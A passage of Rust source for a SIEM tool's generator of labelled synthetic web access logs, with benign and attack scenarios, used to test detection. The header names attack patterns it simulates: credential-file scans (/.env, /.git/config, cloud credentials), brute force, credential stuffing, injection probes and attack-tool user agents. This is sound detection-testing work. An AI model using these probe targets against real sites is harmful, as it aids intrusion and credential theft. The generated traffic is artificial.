//! `tower-siem generate`: a labelled synthetic access log, for measuring detection quality and
//! parsing speed.
//!
//! One simulated day (from 2026-11-26 00:00 UTC) of traffic to an online shop, `shop.example.com`,
//! written in time order as Apache combined lines (or nginx `escape=json` lines), and a
//! ground-truth JSON file that labels every client IP with the scenario that produced it.
//! The same `--seed` and `--lines` always give the same bytes.
//!
//! | scenario | attacker | what the clients do |
//! |---|---|---|
//! | `browser` | no | people browsing: pages, assets, API calls, searches (some look like SQL: `o'neill`, `select fit jeans`), logins |
//! | `password_typo` | no | a browser whose login failed 1–3 times before it succeeded |
//! | `office_nat` | no | 30–400 people behind one address, each with their own browser and logins (typos included) |
//! | `mobile_app` | no | the shop's app: API calls, token logins with HTTP Basic (the account is in `%u`), some carrier NAT shared by many users |
//! | `monitor` | no | uptime checks every 30 s – 5 min, all day |
//! | `crawler` | no | Googlebot, bingbot and friends: robots.txt, sitemap, thousands of pages, 2–6 % 404s |
//! | `rss_reader` | no | feed readers polling the blog feed every 15–60 min |
//! | `login_bruteforce` | yes | one address, one account, 80–1,500 password guesses at up to a few per second |
//! | `credential_stuffing` | yes | one address, a different account on every try, 1–3 % succeed |
//! | `distributed_bruteforce` | yes | one account guessed from 25–80 addresses in different /24s, 2–3 tries each, over 1–4 h, on the API token endpoint (the account is in `%u`) |
//! | `low_and_slow_bruteforce` | yes | one address, a guess every 2–10 min for 8–24 h: under per-minute thresholds |
//! | `sensitive_file_scan` | yes | `/.env`, `/.git/config`, `wp-config.php.bak`, cloud credentials, admin consoles |
//! | `directory_bruteforce` | yes | 300–3,000 wordlist paths at several per second, mostly 404 |
//! | `injection_probe` | yes | SQL injection, XSS and path traversal in query strings and paths, between normal requests |
//! | `attack_tool_ua` | yes | sqlmap, Nikto, Nuclei, WPScan, gobuster, ffuf, masscan, … in the user agent |
//! | `fuzz_burst` | yes | 1–3 bursts of 25–150 random paths within a minute, all 404 |
//!
//! Logins: the web form is `POST /login` (302 on success, 401 on failure; the account is not in
//! the log); the API is `POST /api/v1/auth/token` with HTTP Basic credentials, so the server logs
//! the account name in the `%u` field on success and failure alike.
//!
//! The mix scales with `--lines`: about 30 attacking addresses per scenario per million lines
//! (at least one), three distributed campaigns per million, benign clients for the rest. From
//! about 20,000 lines up the log has exactly `--lines` lines.

use std::collections::{HashMap, HashSet};
use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::path::{Path, PathBuf};
use std::process::ExitCode;

use clap::{Args, ValueEnum};
use serde::Serialize;

/// Arguments of `tower-siem generate`.
#[derive(Debug, Args)]
pub(crate) struct GenerateArgs {
    /// Lines to write (exactly this many from about 20,000 up; the attack mix has a minimum).
    #[arg(long, default_value_t = 100_000)]
    lines: u64,
    /// Seed: the same seed and line count give the same bytes.
    #[arg(long, default_value_t = 1)]
    seed: u64,
    /// The access log to write (`-` for standard output).
    #[arg(long, default_value = "-")]
    out: PathBuf,
    /// Where to write the ground truth (JSON): the scenario of every client IP.
    #[arg(long)]
    truth: Option<PathBuf>,
    /// Log line format.
    #[arg(long, value_enum, default_value_t = LogFormat::Combined)]
    format: LogFormat,
}

/// Output line format.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum, Serialize)]
#[serde(rename_all = "snake_case")]
pub(crate) enum LogFormat {
    /// Apache/nginx combined: `ip - user [time] "request" status bytes "referer" "agent"`.
    Combined,
    /// One JSON object per line, nginx `escape=json` style.
    Json,
}

/// The most lines one run writes. The day is built in memory before it is sorted and written
/// (about 90 bytes per line), so this bounds the generator at about 2 GiB.
const MAX_LINES: u64 = 20_000_000;

pub(crate) fn run(args: GenerateArgs) -> ExitCode {
    match run_inner(&args) {
        Ok(summary) => {
            if !summary.is_empty() {
                let _ = writeln!(io::stderr(), "{summary}");
            }
            ExitCode::SUCCESS
        }
        Err(e) => {
            let _ = writeln!(io::stderr(), "tower-siem generate: {e}");
            ExitCode::FAILURE
        }
    }
}

fn run_inner(args: &GenerateArgs) -> Result<String, String> {
    if args.lines == 0 || args.lines > MAX_LINES {
        return Err(format!(
            "--lines must be from 1 to {MAX_LINES}, found {}",
            args.lines
        ));
    }
    let log = generate(args.lines, args.seed);
    let write_to = |path: &Path, what: &str, f: &dyn Fn(&mut dyn Write) -> io::Result<()>| {
        let res = if path.as_os_str() == "-" {
            let stdout = io::stdout();
            let mut w = BufWriter::with_capacity(1 << 20, stdout.lock());
            f(&mut w).and_then(|()| w.flush())
        } else {
            File::create(path).and_then(|file| {
                let mut w = BufWriter::with_capacity(1 << 20, file);
                f(&mut w).and_then(|()| w.flush())
            })
        };
        res.map_err(|e| {
            // The reader went away (`generate | head`): not an error, and nothing to report.
            if path.as_os_str() == "-" && e.kind() == io::ErrorKind::BrokenPipe {
                None
            } else {
                Some(format!(
                    "cannot write the {what} to {}: {e}",
                    path.display()
                ))
            }
        })
    };
    match write_to(&args.out, "log", &|w| log.write_log(w, args.format)) {
        Ok(()) => {}
        Err(None) => return Ok(String::new()),
        Err(Some(e)) => return Err(e),
    }
    if let Some(truth) = &args.truth {
        write_to(truth, "ground truth", &|w| {
            serde_json::to_writer(&mut *w, &log.truth(args.seed, args.format))
                .map_err(io::Error::other)?;
            w.write_all(b"\n")
        })
        .map_err(|e| e.unwrap_or_else(|| "the ground truth's reader went away".to_owned()))?;
    }
    let attackers = log.clients.iter().filter(|c| c.scenario.attacker()).count();
    let mut summary = format!(
        "generated {} lines, {} clients ({} attackers), seed {}",
        log.recs.len(),
        log.clients.len(),
        attackers,
        args.seed
    );
    if log.recs.len() as u64 != args.lines {
        summary.push_str(&format!(
            "\nnote: {} lines, not the {} asked for: every attacker's traffic is kept whole \
             (from about 20,000 lines up, the count is exact)",
            log.recs.len(),
            args.lines
        ));
    }
    Ok(summary)
}

// ---- Scenarios ------------------------------------------------------------------------------

/// What produced a client's traffic.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub(crate) enum Scenario {
    Browser,
    PasswordTypo,
    OfficeNat,
    MobileApp,
    Monitor,
    Crawler,
    RssReader,
    LoginBruteforce,
    CredentialStuffing,
    DistributedBruteforce,
    LowAndSlowBruteforce,
    SensitiveFileScan,
    DirectoryBruteforce,
    InjectionProbe,
    AttackToolUa,
    FuzzBurst,
}

impl Scenario {
    const ALL: [Scenario; 16] = [
        Scenario::Browser,
        Scenario::PasswordTypo,
        Scenario::OfficeNat,
        Scenario::MobileApp,
        Scenario::Monitor,
        Scenario::Crawler,
        Scenario::RssReader,
        Scenario::LoginBruteforce,
        Scenario::CredentialStuffing,
        Scenario::DistributedBruteforce,
        Scenario::LowAndSlowBruteforce,
        Scenario::SensitiveFileScan,
        Scenario::DirectoryBruteforce,
        Scenario::InjectionProbe,
        Scenario::AttackToolUa,
        Scenario::FuzzBurst,
    ];

    fn name(self) -> &'static str {
        match self {
            Scenario::Browser => "browser",
            Scenario::PasswordTypo => "password_typo",
            Scenario::OfficeNat => "office_nat",
            Scenario::MobileApp => "mobile_app",
            Scenario::Monitor => "monitor",
            Scenario::Crawler => "crawler",
            Scenario::RssReader => "rss_reader",
            Scenario::LoginBruteforce => "login_bruteforce",
            Scenario::CredentialStuffing => "credential_stuffing",
            Scenario::DistributedBruteforce => "distributed_bruteforce",
            Scenario::LowAndSlowBruteforce => "low_and_slow_bruteforce",
            Scenario::SensitiveFileScan => "sensitive_file_scan",
            Scenario::DirectoryBruteforce => "directory_bruteforce",
            Scenario::InjectionProbe => "injection_probe",
            Scenario::AttackToolUa => "attack_tool_ua",
            Scenario::FuzzBurst => "fuzz_burst",
        }
    }

    fn attacker(self) -> bool {
        !matches!(
            self,
            Scenario::Browser
                | Scenario::PasswordTypo
                | Scenario::OfficeNat
                | Scenario::MobileApp
                | Scenario::Monitor
                | Scenario::Crawler
                | Scenario::RssReader
        )
    }
}

// ---- Ground truth ---------------------------------------------------------------------------

#[derive(Serialize)]
struct Truth<'a> {
    generator: &'static str,
    seed: u64,
    lines: usize,
    format: LogFormat,
    start: String,
    scenarios: Vec<ScenarioTruth>,
    clients: Vec<ClientOut<'a>>,
    campaigns: &'a [Campaign],
}

#[derive(Serialize)]
struct ScenarioTruth {
    name: &'static str,
    attacker: bool,
    clients: usize,
    lines: u64,
}

#[derive(Serialize)]
struct ClientOut<'a> {
    ip: String,
    scenario: &'static str,
    attacker: bool,
    lines: u64,
    #[serde(skip_serializing_if = "Option::is_none")]
    campaign: Option<&'a str>,
}

/// One distributed brute-force campaign: the account and the addresses that guessed it.
#[derive(Serialize)]
struct Campaign {
    id: String,
    account: String,
    clients: Vec<String>,
}

struct Client {
    ip: u32,
    scenario: Scenario,
    lines: u64,
    campaign: Option<usize>,
}

// ---- The generated log ----------------------------------------------------------------------

/// A text slice in the arena; `len == 0` is "absent".
#[derive(Clone, Copy, Default)]
struct Span {
    off: u32,
    len: u32,
}

const GET: u8 = 0;
const POST: u8 = 1;
const HEAD: u8 = 2;

/// Referer kinds.
const REF_NONE: u8 = 0;
/// The shop's origin followed by the span.
const REF_SITE: u8 = 1;
/// The span as is.
const REF_LIT: u8 = 2;

/// One log line, compact: every text lives in the arena.
#[derive(Clone, Copy)]
struct Rec {
    /// Milliseconds since the start of the day.
    t: u32,
    client: u32,
    path: Span,
    referer: Span,
    user: Span,
    bytes: u32,
    status: u16,
    ua: u16,
    method: u8,
    ref_kind: u8,
}

/// Who sends a request: the client (address), its user agent and the account in `%u`.
#[derive(Clone, Copy)]
struct Who {
    client: u32,
    ua: u16,
    user: Span,
}

/// A generated day: records sorted by time, and the labels.
pub(crate) struct Log {
    recs: Vec<Rec>,
    arena: Vec<u8>,
    uas: Vec<&'static str>,
    clients: Vec<Client>,
    campaigns: Vec<Campaign>,
}

/// Unix seconds of 2026-11-26T00:00:00Z.
const START: i64 = 1_795_651_200;
const ORIGIN: &str = "https://shop.example.com";
const DAY_MS: u32 = 86_400_000;

/// Generates a day of traffic with about `lines` lines (exactly, when the attack mix fits).
pub(crate) fn generate(lines: u64, seed: u64) -> Log {
    let mut g = Gen::new(seed, lines);
    let units = lines as f64 / 1_000_000.0;
    let per = |n: f64| ((n * units).round() as usize).max(1);
    let opt = |n: f64| (n * units).round() as usize;

    // Attacks first, so the benign fill is what gets trimmed to the exact line count.
    for _ in 0..per(30.0) {
        g.login_bruteforce();
        g.credential_stuffing();
        g.low_and_slow();
        g.sensitive_file_scan();
        g.directory_bruteforce();
        g.injection_probe();
        g.attack_tool_ua();
        g.fuzz_burst();
    }
    for _ in 0..per(3.0) {
        g.distributed_campaign();
    }
    // Benign populations of fixed shape.
    for _ in 0..opt(5.0) {
        g.monitor();
    }
    for _ in 0..opt(6.0) {
        g.crawler();
    }
    for _ in 0..opt(20.0) {
        g.rss_reader();
    }
    for _ in 0..opt(6.0) {
        g.office();
    }
    let cgnat: Vec<u32> = (0..opt(20.0))
        .map(|_| g.new_client(Scenario::MobileApp))
        .collect();
    // People, until the day has its lines.
    let target = usize::try_from(lines).unwrap_or(usize::MAX);
    while g.recs.len() < target {
        if g.rng.chance(0.2) {
            let client = if !cgnat.is_empty() && g.rng.chance(0.25) {
                *g.rng.pick(&cgnat)
            } else {
                g.new_client(Scenario::MobileApp)
            };
            g.mobile_user(client);
        } else {
            g.browser_user();
        }
    }
    g.finish(target)
}

struct Gen {
    rng: Rng,
    recs: Vec<Rec>,
    arena: Vec<u8>,
    clients: Vec<Client>,
    ips: HashSet<u32>,
    uas: Vec<&'static str>,
    ua_ids: HashMap<&'static str, u16>,
    lits: HashMap<&'static str, Span>,
    campaigns: Vec<Campaign>,
    customers: u64,
}

impl Gen {
    fn new(seed: u64, lines: u64) -> Self {
        let cap = usize::try_from(lines).unwrap_or(0).saturating_add(4096);
        Gen {
            rng: Rng::new(seed),
            recs: Vec::with_capacity(cap),
            arena: Vec::with_capacity(cap.saturating_mul(48)),
            clients: Vec::new(),
            ips: HashSet::new(),
            uas: Vec::new(),
            ua_ids: HashMap::new(),
            lits: HashMap::new(),
            campaigns: Vec::new(),
            customers: 0,
        }
    }

    fn finish(mut self, target: usize) -> Log {
        self.recs.truncate(target.max(self.fixed_floor()));
        // Stable: lines of one client in the same millisecond keep their order.
        self.recs.sort_by_key(|r| r.t);
        for c in &mut self.clients {
            c.lines = 0;
        }
        for r in &self.recs {
            self.clients[r.client as usize].lines += 1;
        }
        // A client whose every line was trimmed is not in the log, so not in the truth.
        let mut remap = vec![u32::MAX; self.clients.len()];
        let mut kept = Vec::with_capacity(self.clients.len());
        for (i, c) in self.clients.into_iter().enumerate() {
            if c.lines > 0 {
                remap[i] = kept.len() as u32;
                kept.push(c);
            }
        }
        for r in &mut self.recs {
            r.client = remap[r.client as usize];
        }
        Log {
            recs: self.recs,
            arena: self.arena,
            uas: self.uas,
            clients: kept,
            campaigns: self.campaigns,
        }
    }

    /// Lines that must stay even when `--lines` is smaller: every attacker's traffic.
    fn fixed_floor(&self) -> usize {
        self.recs
            .iter()
            .rposition(|r| self.clients[r.client as usize].scenario.attacker())
            .map_or(0, |i| i + 1)
    }

    // -- building blocks --

    /// A fresh public IPv4 address never handed out before.
    fn fresh_ip(&mut self) -> u32 {
        loop {
            let ip = self.rng.next() as u32;
            let a = ip >> 24;
            let b = (ip >> 16) & 0xff;
            let reserved = a == 0
                || a == 10
                || a == 127
                || a >= 224
                || (a == 100 && (64..128).contains(&b))
                || (a == 169 && b == 254)
                || (a == 172 && (16..32).contains(&b))
                || (a == 192 && b == 168)
                || (a == 192 && b == 0)
                || (a == 198 && (18..20).contains(&b))
                || (ip & 0xff) == 0
                || (ip & 0xff) == 255;
            if !reserved && self.ips.insert(ip) {
                return ip;
            }
        }
    }

    /// A fresh address inside `prefix/16`, as crawlers of one operator use.
    fn fresh_ip_in(&mut self, prefix: u32) -> u32 {
        loop {
            let ip = (prefix & 0xffff_0000) | (self.rng.below(0xfffe) as u32 + 1);
            if (ip & 0xff) != 0 && (ip & 0xff) != 255 && self.ips.insert(ip) {
                return ip;
            }
        }
    }

    fn new_client_at(&mut self, ip: u32, scenario: Scenario) -> u32 {
        self.clients.push(Client {
            ip,
            scenario,
            lines: 0,
            campaign: None,
        });
        (self.clients.len() - 1) as u32
    }

    fn new_client(&mut self, scenario: Scenario) -> u32 {
        let ip = self.fresh_ip();
        self.new_client_at(ip, scenario)
    }

    fn ua(&mut self, s: &'static str) -> u16 {
        if let Some(&i) = self.ua_ids.get(s) {
            return i;
        }
        let i = self.uas.len() as u16;
        self.uas.push(s);
        self.ua_ids.insert(s, i);
        i
    }

    fn pick_ua(&mut self, list: &'static [&'static str]) -> u16 {
        let s = *self.rng.pick(list);
        self.ua(s)
    }

    /// A constant text, stored once.
    fn lit(&mut self, s: &'static str) -> Span {
        if let Some(&sp) = self.lits.get(s) {
            return sp;
        }
        let sp = self.text(s);
        self.lits.insert(s, sp);
        sp
    }

    fn text(&mut self, s: &str) -> Span {
        let off = self.arena.len() as u32;
        self.arena.extend_from_slice(s.as_bytes());
        self.end(off)
    }

    fn begin(&self) -> u32 {
        self.arena.len() as u32
    }

    fn end(&self, off: u32) -> Span {
        Span {
            off,
            len: self.arena.len() as u32 - off,
        }
    }

    fn s(&mut self, s: &str) {
        self.arena.extend_from_slice(s.as_bytes());
    }

    fn n(&mut self, n: u64) {
        push_u64(&mut self.arena, n);
    }

    /// Appends `s` percent-encoded as a browser encodes a form value (space as `+`).
    fn q(&mut self, s: &str) {
        self.encode(s, b"+");
    }

    /// Appends `s` percent-encoded as attack tools send it (space as `%20`).
    fn q20(&mut self, s: &str) {
        self.encode(s, b"%20");
    }

    fn encode(&mut self, s: &str, space: &[u8]) {
        for &b in s.as_bytes() {
            match b {
                b' ' => self.arena.extend_from_slice(space),
                b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                    self.arena.push(b)
                }
                _ => {
                    const HEX: &[u8; 16] = b"0123456789ABCDEF";
                    self.arena.extend_from_slice(&[
                        b'%',
                        HEX[(b >> 4) as usize],
                        HEX[(b & 15) as usize],
                    ]);
                }
            }
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn hit(
        &mut self,
        t: u32,
        w: Who,
        method: u8,
        path: Span,
        status: u16,
        bytes: u32,
        rk: u8,
        rs: Span,
    ) {
        self.recs.push(Rec {
            t,
            client: w.client,
            path,
            referer: rs,
            user: w.user,
            bytes,
            status,
            ua: w.ua,
            method,
            ref_kind: rk,
        });
    }

    fn get(&mut self, t: u32, w: Who, path: Span, status: u16, bytes: u32) {
        self.hit(t, w, GET, path, status, bytes, REF_NONE, Span::default());
    }

    fn get_from(&mut self, t: u32, w: Who, path: Span, status: u16, bytes: u32, from: Span) {
        self.hit(t, w, GET, path, status, bytes, REF_SITE, from);
    }

    fn size(&mut self, lo: u32, hi: u32) -> u32 {
        self.rng.range(u64::from(lo), u64::from(hi)) as u32
    }

    /// A start time in the day, weighted by when people shop.
    fn day_time(&mut self) -> u32 {
        const WEIGHT: [f64; 24] = [
            0.25, 0.18, 0.12, 0.1, 0.1, 0.15, 0.3, 0.5, 0.7, 0.8, 0.85, 0.9, 1.0, 0.95, 0.9, 0.85,
            0.85, 0.9, 0.95, 1.0, 0.95, 0.8, 0.6, 0.4,
        ];
        loop {
            let t = self.rng.below(u64::from(DAY_MS)) as u32;
            if self.rng.f64() < WEIGHT[(t / 3_600_000) as usize] {
                return t;
            }
        }
    }

    fn any_time(&mut self) -> u32 {
        self.rng.below(u64::from(DAY_MS)) as u32
    }

    /// Seconds of reading between two pages.
    fn think(&mut self) -> u32 {
        let s = 2.0 + self.rng.exp(25.0);
        (s.min(600.0) * 1000.0) as u32
    }

    /// The account name of one of the shop's customers: unique per customer (a real user base
    /// has no two people on one login).
    fn customer_name(&mut self) -> Span {
        self.customers += 1;
        let id = self.customers;
        let first = *self.rng.pick(FIRST_NAMES);
        let last = *self.rng.pick(LAST_NAMES);
        let off = self.begin();
        match self.rng.below(3) {
            0 => {
                self.s(first);
                self.s(".");
                self.s(last);
                self.n(id);
            }
            1 => {
                self.arena.push(first.as_bytes()[0]);
                self.s(last);
                self.n(id);
            }
            _ => {
                self.s(first);
                self.s(".");
                self.s(last);
                self.n(id);
                self.s("@");
                let d = *self.rng.pick(MAIL_DOMAINS);
                self.s(d);
            }
        }
        self.end(off)
    }

    /// A login from a leaked credential list: addresses at other providers, so a stuffing run
    /// does not happen to hit this shop's customers.
    fn leaked_name(&mut self) -> Span {
        let first = *self.rng.pick(FIRST_NAMES);
        let last = *self.rng.pick(LAST_NAMES);
        let off = self.begin();
        self.s(first);
        let sep = if self.rng.chance(0.5) { "_" } else { "" };
        self.s(sep);
        self.s(last);
        let n = self.rng.range(1, 99_999);
        self.n(n);
        self.s("@");
        let d = *self.rng.pick(LEAK_DOMAINS);
        self.s(d);
        self.end(off)
    }

    // -- the shop's pages --

    fn product_path(&mut self, id: u64) -> Span {
        let off = self.begin();
        self.s("/products/");
        let a = ADJ[(id as usize * 7) % ADJ.len()];
        let n = NOUN[(id as usize * 13) % NOUN.len()];
        self.s(a);
        self.s("-");
        self.s(n);
        self.s("-");
        self.n(id);
        self.end(off)
    }

    fn category_path(&mut self) -> Span {
        let c = *self.rng.pick(CATEGORIES);
        let off = self.begin();
        self.s("/category/");
        self.s(c);
        if self.rng.chance(0.3) {
            self.s("?page=");
            let p = self.rng.range(2, 8);
            self.n(p);
            if self.rng.chance(0.5) {
                self.s("&sort=");
                let s = *self.rng.pick(&["price", "-price", "newest", "popular"]);
                self.s(s);
            }
        }
        self.end(off)
    }

    fn search_path(&mut self, term: &str) -> Span {
        let off = self.begin();
        self.s("/search?q=");
        self.q(term);
        self.end(off)
    }

    fn image(&mut self, id: u64) -> Span {
        let off = self.begin();
        self.s("/images/products/");
        self.n(id);
        let w = if self.rng.chance(0.5) {
            "-400w.webp"
        } else {
            "-800w.webp"
        };
        self.s(w);
        self.end(off)
    }

    /// One browser visit; returns when it ended. `typos` failed logins precede a successful one
    /// when `login` is set.
    fn browse(&mut self, w: Who, mut t: u32, first_visit: bool, login: bool, typos: u32) -> u32 {
        let ios = self.uas[w.ua as usize].contains("iPhone");
        let (mut rk, mut rs) = match self.rng.below(10) {
            0..=3 => (REF_LIT, self.lit("https://www.google.com/")),
            4 => (REF_LIT, self.lit("https://www.bing.com/")),
            5 => (REF_LIT, self.lit("https://duckduckgo.com/")),
            6 => (REF_LIT, self.lit("https://www.instagram.com/")),
            _ => (REF_NONE, Span::default()),
        };
        let pages = 1 + (self.rng.exp(5.0) as u32).min(40);
        let login_at = if login {
            self.rng.below(u64::from(pages)) as u32
        } else {
            u32::MAX
        };
        for i in 0..pages {
            if i == login_at {
                t = self.login_form(w, t, typos, rs);
                rk = REF_SITE;
                rs = self.lit("/account");
            }
            let roll = if i == 0 {
                self.rng.below(100) % 80
            } else {
                self.rng.below(100)
            };
            let (page, status, bytes, images) = match roll {
                0..=39 => {
                    let id = self.rng.range(1, 5000);
                    let p = self.product_path(id);
                    (p, 200, self.size(18_000, 60_000), self.rng.range(2, 5))
                }
                40..=59 => {
                    let p = self.category_path();
                    (p, 200, self.size(25_000, 90_000), self.rng.range(8, 16))
                }
                60..=71 => (self.lit("/"), 200, self.size(30_000, 70_000), 6),
                72..=79 => {
                    let term = *self.rng.pick(SEARCHES);
                    // Type-ahead before the search page.
                    let chars = term.len().min(self.rng.range(2, 6) as usize);
                    for k in 2..=chars {
                        if !term.is_char_boundary(k) {
                            continue;
                        }
                        let off = self.begin();
                        self.s("/api/v1/search/suggest?q=");
                        self.q(&term[..k]);
                        let p = self.end(off);
                        t += self.size(150, 700);
                        let bytes = self.size(300, 2_000);
                        self.get_from(t, w, p, 200, bytes, rs);
                    }
                    let p = self.search_path(term);
                    (p, 200, self.size(20_000, 80_000), self.rng.range(4, 12))
                }
                80..=85 => {
                    let b = *self.rng.pick(BLOG);
                    (self.lit(b), 200, self.size(15_000, 40_000), 2)
                }
                86..=91 => (self.lit("/cart"), 200, self.size(12_000, 20_000), 1),
                92..=97 => {
                    let p =
                        *self
                            .rng
                            .pick(&["/about", "/contact", "/faq", "/shipping", "/returns"]);
                    (self.lit(p), 200, self.size(8_000, 20_000), 0)
                }
                _ => {
                    // A stale link to a product that is gone.
                    let id = self.rng.range(5001, 9000);
                    let p = self.product_path(id);
                    (p, 404, self.size(1_000, 2_000), 0)
                }
            };
            self.hit(t, w, GET, page, status, bytes, rk, rs);
            if self.arena[page.off as usize..(page.off + page.len) as usize] == *LOOKBOOK.as_bytes()
            {
                // A post whose old image links broke in a CDN move: eight 404s per view.
                for k in 0..8 {
                    let off = self.begin();
                    self.s("/cdn/lookbook-2025/look-");
                    self.n(k);
                    self.s(".jpg");
                    let p = self.end(off);
                    t += self.size(10, 200);
                    self.get_from(t, w, p, 404, 1_200, page);
                }
            }
            if i == 0 {
                let (css_status, rev) = if first_visit {
                    (200, false)
                } else {
                    (304, true)
                };
                for a in ASSETS {
                    t += self.size(20, 400);
                    let p = self.lit(a);
                    let b = if rev { 0 } else { self.size(8_000, 240_000) };
                    self.get_from(t, w, p, css_status, b, page);
                }
                if first_visit {
                    let p = self.lit("/favicon.ico");
                    t += self.size(20, 300);
                    self.get(t, w, p, 200, 1_150);
                    if ios && self.rng.chance(0.5) {
                        for a in ["/apple-touch-icon-precomposed.png", "/apple-touch-icon.png"] {
                            let p = self.lit(a);
                            t += self.size(20, 300);
                            self.get(t, w, p, 404, 1_200);
                        }
                    }
                }
            }
            for _ in 0..images {
                let id = self.rng.range(1, 5000);
                let p = self.image(id);
                t += self.size(10, 300);
                let b = self.size(6_000, 90_000);
                self.get_from(t, w, p, 200, b, page);
            }
            if status == 200 && self.rng.chance(0.35) {
                let off = self.begin();
                self.s("/api/v1/recommendations?product=");
                let id = self.rng.range(1, 5000);
                self.n(id);
                let p = self.end(off);
                t += self.size(100, 900);
                let b = self.size(1_500, 6_000);
                self.get_from(t, w, p, 200, b, page);
            }
            if self.rng.chance(0.06) {
                let p = self.lit("/api/v1/cart/items");
                t += self.size(2_000, 20_000);
                self.hit(t, w, POST, p, 201, 420, REF_SITE, page);
            }
            rk = REF_SITE;
            rs = page;
            t += self.think();
        }
        t
    }

    /// The login form: `typos` failures, then success.
    fn login_form(&mut self, w: Who, mut t: u32, typos: u32, from: Span) -> u32 {
        let login = self.lit("/login");
        self.get_from(t, w, login, 200, 9_800, from);
        let css = self.lit(ASSETS[0]);
        self.get_from(t + 150, w, css, 304, 0, login);
        for _ in 0..typos {
            t += self.size(5_000, 25_000);
            self.hit(t, w, POST, login, 401, 10_100, REF_SITE, login);
        }
        t += self.size(5_000, 25_000);
        self.hit(t, w, POST, login, 302, 0, REF_SITE, login);
        let acct = self.lit("/account");
        t += self.size(100, 600);
        let b = self.size(14_000, 22_000);
        self.get_from(t, w, acct, 200, b, login);
        t + self.think()
    }

    fn typos(&mut self) -> u32 {
        if self.rng.chance(0.1) {
            self.rng.range(1, 3) as u32
        } else {
            0
        }
    }

    // -- benign populations --

    fn browser_user(&mut self) {
        let client = self.new_client(Scenario::Browser);
        let ua = self.pick_ua(BROWSER_UAS);
        let w = Who {
            client,
            ua,
            user: Span::default(),
        };
        let sessions = match self.rng.below(10) {
            0..=6 => 1,
            7..=8 => 2,
            _ => 3,
        };
        let mut typo_seen = false;
        let mut t = self.day_time();
        for s in 0..sessions {
            let login = self.rng.chance(0.12);
            let typos = if login { self.typos() } else { 0 };
            typo_seen |= typos > 0;
            t = self.browse(w, t, s == 0, login, typos);
            t = t.saturating_add(self.rng.range(600_000, 14_400_000) as u32);
        }
        if typo_seen {
            self.clients[client as usize].scenario = Scenario::PasswordTypo;
        }
    }

    fn office(&mut self) {
        let client = self.new_client(Scenario::OfficeNat);
        let people = self.rng.range(30, 400);
        for _ in 0..people {
            let ua = self.pick_ua(DESKTOP_UAS);
            let w = Who {
                client,
                ua,
                user: Span::default(),
            };
            let sessions = self.rng.range(1, 4);
            // Office hours, 08:00–18:00.
            let mut t = self.rng.range(8 * 3_600_000, 17 * 3_600_000) as u32;
            let login = self.rng.chance(0.5);
            for s in 0..sessions {
                let lg = login && s == 0;
                let typos = if lg { self.typos() } else { 0 };
                t = self.browse(w, t, s == 0, lg, typos);
                t = t.saturating_add(self.rng.range(300_000, 7_200_000) as u32);
            }
        }
    }

    fn mobile_user(&mut self, client: u32) {
        let ua = self.pick_ua(APP_UAS);
        let user = self.customer_name();
        let w = Who {
            client,
            ua,
            user: Span::default(),
        };
        let mut t = self.day_time();
        let sessions = self.rng.range(1, 3);
        for s in 0..sessions {
            for p in ["/api/v1/config", "/api/v1/home"] {
                let p = self.lit(p);
                let b = self.size(2_000, 12_000);
                self.get(t, w, p, 200, b);
                t += self.size(80, 400);
            }
            if s == 0 && self.rng.chance(0.4) {
                let token = self.lit("/api/v1/auth/token");
                let as_user = Who { user, ..w };
                for _ in 0..self.typos() {
                    self.hit(t, as_user, POST, token, 401, 96, REF_NONE, Span::default());
                    t += self.size(4_000, 20_000);
                }
                self.hit(t, as_user, POST, token, 200, 612, REF_NONE, Span::default());
                t += self.size(200, 900);
            }
            let calls = self.rng.range(3, 20);
            for _ in 0..calls {
                let p = match self.rng.below(10) {
                    0..=3 => {
                        let off = self.begin();
                        self.s("/api/v1/products?category=");
                        let c = *self.rng.pick(CATEGORIES);
                        self.s(c);
                        self.s("&page=");
                        let n = self.rng.range(1, 6);
                        self.n(n);
                        self.end(off)
                    }
                    4..=6 => {
                        let off = self.begin();
                        self.s("/api/v1/products/");
                        let id = self.rng.range(1, 5000);
                        self.n(id);
                        self.end(off)
                    }
                    7 => self.lit("/api/v1/cart"),
                    8 => {
                        let term = *self.rng.pick(SEARCHES);
                        let off = self.begin();
                        self.s("/api/v1/search?q=");
                        self.q(term);
                        self.end(off)
                    }
                    _ => {
                        let id = self.rng.range(1, 5000);
                        self.image(id)
                    }
                };
                let b = self.size(800, 30_000);
                self.get(t, w, p, 200, b);
                t += self.size(300, 8_000);
                if self.rng.chance(0.01) {
                    // The access token expired: one 401, then a refresh.
                    self.get(t, w, p, 401, 96);
                    let r = self.lit("/api/v1/auth/refresh");
                    t += self.size(100, 400);
                    self.hit(t, w, POST, r, 200, 612, REF_NONE, Span::default());
                    t += self.size(100, 400);
                    self.get(t, w, p, 200, b);
                }
            }
            t = t.saturating_add(self.rng.range(1_800_000, 21_600_000) as u32);
        }
    }

    fn monitor(&mut self) {
        let client = self.new_client(Scenario::Monitor);
        let ua = self.pick_ua(MONITOR_UAS);
        let w = Who {
            client,
            ua,
            user: Span::default(),
        };
        let every = *self
            .rng
            .pick(&[30_000u32, 60_000, 60_000, 120_000, 300_000]);
        let path = *self.rng.pick(&["/health", "/", "/api/v1/health"]);
        let path = self.lit(path);
        let method = if self.rng.chance(0.3) { HEAD } else { GET };
        let mut t = self.rng.below(u64::from(every)) as u32;
        while t < DAY_MS {
            let b = if method == HEAD { 0 } else { 64 };
            self.hit(t, w, method, path, 200, b, REF_NONE, Span::default());
            t += every + self.size(0, 900);
        }
    }

    fn crawler(&mut self) {
        let (ua, prefix) = *self.rng.pick(CRAWLERS);
        let ip = self.fresh_ip_in(prefix);
        let client = self.new_client_at(ip, Scenario::Crawler);
        let ua = self.ua(ua);
        let w = Who {
            client,
            ua,
            user: Span::default(),
        };
        let missing = 0.02 + self.rng.f64() * 0.04;
        let bursts = self.rng.range(3, 12);
        for b in 0..bursts {
            let mut t = self.any_time();
            if b == 0 || self.rng.chance(0.3) {
                let p = self.lit("/robots.txt");
                self.get(t, w, p, 200, 310);
                t += self.size(500, 3_000);
            }
            if self.rng.chance(0.3) {
                let p = self.lit("/sitemap.xml");
                self.get(t, w, p, 200, 180_000);
                t += self.size(500, 3_000);
            }
            let pages = self.rng.range(50, 600);
